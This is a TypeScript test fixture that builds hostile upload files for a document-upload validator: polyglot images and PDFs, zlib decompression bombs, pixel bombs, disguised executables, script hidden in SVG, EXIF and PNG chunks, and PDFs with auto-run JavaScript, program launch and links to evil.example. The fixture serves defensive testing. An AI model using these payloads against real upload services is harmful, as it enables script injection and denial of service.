import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { DOCUMENT_BYTES_LIMIT } from '../check-document.ts';
import type { RefusalCode } from '../document-check-port.ts';
import {
  bluePageWith,
  encryptedPdf,
  manyPages,
  ONE_BLUE_PAGE,
  pdf,
  pdfWithObjectStream,
  streamObject,
} from './handmade-pdf.ts';
import {
  announcing,
  blackPng,
  emptyPng,
  jpegOfManyScans,
  lyingPhoto,
  noise,
  withChunk,
  withSegment,
} from './handmade-pictures.ts';

/**
 * One hostile file and its outcome: refused with a code, or accepted and shown as a picture with
 * nothing of it.
 */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
  readonly becomes: RefusalCode | 'harmless';
}

/** In every accepted file; must be in nothing that is shown. */
export const HOSTILE_MARK = 'HOSTILE-MARK';

const SCRIPT = `<script>fetch("//evil.example/${HOSTILE_MARK}")</script>`;
const HTML = Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`);
const JAVASCRIPT = `<< /S /JavaScript /JS (app.alert\\("${HOSTILE_MARK}"\\)) >>`;
const ZIP = Buffer.concat([
  Buffer.from(`PK\x03\x04${HOSTILE_MARK}`, 'latin1'),
  Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1'),
]);
const { 4: PAGE_CONTENT = '', ...PAGE_WITHOUT_CONTENT } = ONE_BLUE_PAGE;
const MEGABYTE = 1024 * 1024;

const PACKED_MEGABYTE = deflateRawSync(Buffer.alloc(MEGABYTE), {
  level: 9,
  finishFlush: constants.Z_FULL_FLUSH,
});
const LAST_EMPTY_BLOCK = Buffer.from([0x03, 0x00]);

/** Megabytes of zeros in a thousandth of that, as a whole zlib stream (RFC 1950) with checksum. */
function bomb(megabytes: number): Buffer {
  const checksum = Buffer.from([0, 0, 0, 1]);
  checksum.writeUInt16BE((megabytes * MEGABYTE) % 65_521);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: megabytes }, () => PACKED_MEGABYTE),
    LAST_EMPTY_BLOCK,
    checksum,
  ]);
}

const jpegFile = (
  what: string,
  bytes: Buffer,
  becomes: HostileFile['becomes'],
  name = 'pass.jpg',
): HostileFile => ({ what, name, type: 'image/jpeg', bytes, becomes });
const pngFile = (what: string, bytes: Buffer, becomes: HostileFile['becomes']): HostileFile => ({
  what,
  name: 'pass.png',
  type: 'image/png',
  bytes,
  becomes,
});
const pdfFile = (what: string, bytes: Buffer, becomes: HostileFile['becomes']): HostileFile => ({
  what,
  name: 'pass.pdf',
  type: 'application/pdf',
  bytes,
  becomes,
});

/** What attackers, broken programs and unlucky people send. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const jpeg = await noise('jpeg');
  const png = await noise('png');
  const gif = await sharp(png).gif().toBuffer();
  return [
    ...twoFilesInOne({ jpeg, png, gif }),
    ...(await bombs(jpeg, png)),
    ...brokenFiles(jpeg, png),
    ...(await strangers(jpeg, png, gif)),
    ...(await secretNotes(jpeg, png)),
    ...activePdfs(),
    ...largePdfs(),
  ];
}

function twoFilesInOne({
  jpeg,
  png,
  gif,
}: {
  jpeg: Buffer;
  png: Buffer;
  gif: Buffer;
}): HostileFile[] {
  const page = pdf(ONE_BLUE_PAGE);
  return [
    pngFile(
      'a PNG that holds a PDF',
      withChunk(
        png,
        'tEXt',
        Buffer.concat([Buffer.from('pdf\0'), page, Buffer.from(HOSTILE_MARK)]),
      ),
      'harmless',
    ),
    pdfFile(
      'the same, sent as a PDF',
      withChunk(png, 'tEXt', Buffer.concat([Buffer.from('pdf\0'), page])),
      'upload_wrong_type',
    ),
    jpegFile('a JPEG that holds a page of markup', withSegment(jpeg, 0xfe, HTML), 'harmless'),
    {
      ...jpegFile(
        'the same, sent as a page',
        withSegment(jpeg, 0xfe, HTML),
        'upload_wrong_type',
        'pass.html',
      ),
      type: 'text/html',
    },
    jpegFile('a JPEG with an archive behind it', Buffer.concat([jpeg, ZIP]), 'harmless'),
    {
      ...jpegFile(
        'a GIF that is an archive too',
        Buffer.concat([gif, ZIP]),
        'upload_wrong_type',
        'pass.gif',
      ),
      type: 'image/gif',
    },
    jpegFile('the same under the name of a JPEG', Buffer.concat([gif, ZIP]), 'upload_wrong_type'),
    pdfFile('a PDF with an archive behind it', Buffer.concat([page, ZIP]), 'upload_unreadable'),
    pdfFile('a PDF with markup behind it', Buffer.concat([page, HTML]), 'upload_unreadable'),
    pdfFile('markup with a PDF behind it', Buffer.concat([HTML, page]), 'upload_wrong_type'),
  ];
}

async function bombs(jpeg: Buffer, png: Buffer): Promise<HostileFile[]> {
  return [
    pngFile(
      'a PNG of 256 megapixels in 100 kilobytes',
      blackPng(16_000, 16_000),
      'upload_too_many_pixels',
    ),
    pngFile('a PNG that only announces them', emptyPng(60_000, 60_000), 'upload_too_many_pixels'),
    jpegFile(
      'a JPEG that announces four gigapixels',
      announcing(jpeg, { width: 65_500, height: 65_500 }),
      'upload_too_many_pixels',
    ),
    jpegFile(
      'a JPEG that draws its last scan 3,000 times',
      await jpegOfManyScans(3_000),
      'upload_unreadable',
    ),
    pngFile(
      'a PNG with a colour profile of 400 megabytes',
      withChunk(png, 'iCCP', Buffer.concat([Buffer.from(`${HOSTILE_MARK}\0\0`), bomb(400)])),
      'harmless',
    ),
    pngFile(
      'a PNG with a note of 400 megabytes',
      withChunk(png, 'zTXt', Buffer.concat([Buffer.from(`${HOSTILE_MARK}\0\0`), bomb(400)])),
      'harmless',
    ),
  ];
}

function brokenFiles(jpeg: Buffer, png: Buffer): HostileFile[] {
  const largest = Buffer.concat([jpeg, Buffer.alloc(DOCUMENT_BYTES_LIMIT - 1 - jpeg.length)]);
  return [
    jpegFile('nothing at all', Buffer.alloc(0), 'upload_empty'),
    jpegFile('half a JPEG', jpeg.subarray(0, jpeg.length / 2), 'upload_unreadable'),
    pngFile('half a PNG', png.subarray(0, png.length / 2), 'upload_unreadable'),
    pdfFile('half a PDF', pdf(ONE_BLUE_PAGE).subarray(0, 300), 'upload_unreadable'),
    jpegFile('exactly 5 MB', Buffer.concat([largest, Buffer.of(0)]), 'upload_too_large'),
    jpegFile('one byte less than 5 MB', largest, 'harmless'),
    jpegFile('far more than 5 MB', Buffer.alloc(6 * MEGABYTE, jpeg), 'upload_too_large'),
  ];
}

async function strangers(jpeg: Buffer, png: Buffer, gif: Buffer): Promise<HostileFile[]> {
  const svg = Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`,
  );
  const heic = Buffer.concat([
    Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'),
    Buffer.alloc(64),
  ]);
  const frames = await sharp([png, png], { join: { animated: true } })
    .gif()
    .toBuffer();
  return [
    jpegFile(
      'a program',
      Buffer.from(`MZ${'\x90'.repeat(200)}${HOSTILE_MARK}`, 'latin1'),
      'upload_wrong_type',
    ),
    jpegFile('a JPEG under the name of a program', jpeg, 'upload_wrong_type', 'pass.jpg.exe'),
    jpegFile('a PNG under the name of a JPEG', png, 'upload_wrong_type'),
    { ...jpegFile('a JPEG sent as markup', jpeg, 'upload_wrong_type'), type: 'text/html' },
    {
      ...jpegFile('an SVG with script', svg, 'upload_wrong_type', 'pass.svg'),
      type: 'image/svg+xml',
    },
    pngFile('the same under the name of a PNG', svg, 'upload_wrong_type'),
    {
      ...jpegFile('a HEIC of a telephone', heic, 'upload_wrong_type', 'IMG_0001.HEIC'),
      type: 'image/heic',
    },
    {
      ...jpegFile(
        'a TIFF of a scanner',
        await sharp(png).tiff().toBuffer(),
        'upload_wrong_type',
        'scan.tiff',
      ),
      type: 'image/tiff',
    },
    { ...jpegFile('an animated GIF', frames, 'upload_wrong_type', 'pass.gif'), type: 'image/gif' },
    {
      ...jpegFile(
        'an animated WebP',
        await sharp(frames, { animated: true }).webp().toBuffer(),
        'upload_wrong_type',
        'pass.webp',
      ),
      type: 'image/webp',
    },
    pngFile(
      'an animated PNG',
      withChunk(png, 'acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0])),
      'upload_wrong_type',
    ),
    pngFile('a GIF under the name of a PNG', gif, 'upload_wrong_type'),
  ];
}

async function secretNotes(jpeg: Buffer, png: Buffer): Promise<HostileFile[]> {
  const exif = Buffer.concat([
    Buffer.from('Exif\0\0II*\0\x08\0\0\0\0\0', 'latin1'),
    Buffer.from(SCRIPT),
  ]);
  return [
    jpegFile('a photo that knows where it was taken and by whom', await lyingPhoto(), 'harmless'),
    jpegFile('a JPEG with script in its EXIF', withSegment(jpeg, 0xe1, exif), 'harmless'),
    jpegFile(
      'a JPEG whose colour profile is script',
      withSegment(jpeg, 0xe2, Buffer.from(`ICC_PROFILE\0\x01\x01${SCRIPT}`)),
      'harmless',
    ),
    pngFile(
      'a PNG with script in its notes',
      withChunk(png, 'iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SCRIPT}`)),
      'harmless',
    ),
  ];
}

function activePdfs(): HostileFile[] {
  const packed = pdfWithObjectStream(
    { 4: PAGE_CONTENT },
    { ...PAGE_WITHOUT_CONTENT, 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${JAVASCRIPT} >>` },
  );
  return [
    pdfFile(
      'a PDF that runs a script when opened',
      pdf(bluePageWith(`/OpenAction ${JAVASCRIPT}`)),
      'upload_pdf_active',
    ),
    pdfFile(
      'a PDF that launches a program',
      pdf(bluePageWith('/OpenAction << /S /Launch /F (calc.exe) >>')),
      'upload_pdf_active',
    ),
    pdfFile(
      'a PDF that opens a web address',
      pdf(bluePageWith('/OpenAction << /S /URI /URI (https://evil.example) >>')),
      'upload_pdf_active',
    ),
    pdfFile(
      'a PDF with a file inside',
      pdf(
        bluePageWith('/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', {
          5: streamObject('MZ', '/Type /EmbeddedFile'),
        }),
      ),
      'upload_pdf_active',
    ),
    pdfFile(
      'a PDF with a form made of script',
      pdf(bluePageWith('/AcroForm << /XFA [(template) 5 0 R] >>')),
      'upload_pdf_active',
    ),
    pdfFile('a PDF whose script is packed away', packed, 'upload_pdf_active'),
    pdfFile(
      'a PDF whose script is spelled in escapes',
      pdf(bluePageWith('/Open#41ction << /S /J#61vaScript /#4aS (1) >>')),
      'upload_pdf_active',
    ),
    pdfFile(
      'a PDF with an older revision that had a script',
      Buffer.concat([
        pdf(bluePageWith(`/OpenAction ${JAVASCRIPT}`)),
        pdf(ONE_BLUE_PAGE, { header: '' }),
      ]),
      'upload_pdf_active',
    ),
    pdfFile('an encrypted PDF', encryptedPdf(), 'upload_pdf_encrypted'),
    pdfFile(
      'a PDF with a link and a note in it',
      pdf(
        bluePageWith('', {
          5: `<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://evil.example/${HOSTILE_MARK}) >> >>`,
        }),
      ),
      'harmless',
    ),
  ];
}

function largePdfs(): HostileFile[] {
  const picture =
    '/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode';
  return [
    pdfFile(
      'a PDF nested 50,000 deep',
      pdf(bluePageWith('', { 5: '['.repeat(50_000) + ']'.repeat(50_000) })),
      'upload_unreadable',
    ),
    pdfFile('a PDF of 10,000 pages', pdf(manyPages(10_000)), 'upload_too_many_pages'),
    pdfFile(
      'a PDF whose objects unpack to 400 megabytes',
      pdf({
        ...ONE_BLUE_PAGE,
        5: streamObject(bomb(400), '/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode'),
      }),
      'upload_unreadable',
    ),
    pdfFile(
      'a PDF whose page unpacks to two gigabytes',
      pdf({
        ...ONE_BLUE_PAGE,
        4: streamObject(deflateSync(bomb(2_000)), '/Filter [/FlateDecode /FlateDecode]'),
      }),
      'upload_unreadable',
    ),
    pdfFile(
      'a PDF with a picture of 900 megapixels',
      pdf(bluePageWith('', { 5: streamObject(bomb(1), picture) })),
      'upload_too_many_pixels',
    ),
  ];
}
